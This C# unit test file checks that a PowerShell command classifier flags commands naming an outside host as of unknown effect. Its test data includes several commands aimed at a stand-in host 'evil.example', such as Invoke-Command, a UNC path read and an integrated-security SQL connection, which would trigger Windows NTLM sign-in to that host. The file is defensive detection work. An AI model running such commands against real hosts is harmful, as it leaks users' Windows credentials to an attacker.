using Firstlook.Effects;

namespace Firstlook.Tests.Effects;

/// <summary>Windows signs in wherever a command, a drive or a connection string leads it (MS-NLMP).</summary>
public sealed class HostsOfPowerShellTests
{
    [Theory]
    [InlineData("Get-ClusterNode -Cluster evil.example", Effect.Unknown)]
    [InlineData("Get-DfsrBacklog -SourceComputerName evil.example", Effect.Unknown)]
    [InlineData("Get-WsusServer -Name evil.example", Effect.Unknown)]
    [InlineData("Get-SqlDatabase -ConnectionString \"Server=evil.example;Integrated Security=true\"", Effect.Unknown)]
    [InlineData("Invoke-Command -ComputerName evil.example { Get-Service }", Effect.Unknown)]
    [InlineData("Invoke-Command evil.example { Get-Service }", Effect.Unknown)]
    [InlineData("Get-ChildItem WSMan:\\evil.example", Effect.Unknown)]
    [InlineData("Get-ChildItem SQLSERVER:\\SQL\\evil.example\\DEFAULT", Effect.Unknown)]
    [InlineData("Get-Content \\??\\UNC\\evil.example\\x", Effect.Unknown)]
    [InlineData("Get-Help Get-Service -Online", Effect.Unknown)]
    [InlineData("Get-ClusterNode -Cluster clu1", Effect.Read)]
    [InlineData("Invoke-Command -ComputerName web01.shop.internal { Get-Service }", Effect.Read)]
    [InlineData("Get-ChildItem WSMan:\\localhost", Effect.Read)]
    [InlineData("Get-ChildItem SQLSERVER:\\SQL\\db01\\DEFAULT", Effect.Read)]
    [InlineData("Get-SqlDatabase -ConnectionString \"Server=db01;Integrated Security=true\"", Effect.Read)]
    [InlineData("Get-Help Get-Service -Full", Effect.Read)]
    public void A_machine_that_may_be_anybodys_is_found_wherever_it_is_named(string line, Effect effect) =>
        Assert.Equal(effect, Classifier.Whole(line, Language.PowerShell).Effect);
}
